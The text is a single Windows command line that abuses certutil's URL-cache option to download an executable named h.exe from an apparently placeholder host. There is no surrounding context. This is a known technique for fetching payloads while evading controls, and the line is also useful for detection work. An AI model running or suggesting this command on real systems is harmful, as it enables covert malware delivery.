certutil -urlcache -split -f https://cdn.helper.invalid/h.exe h.exe
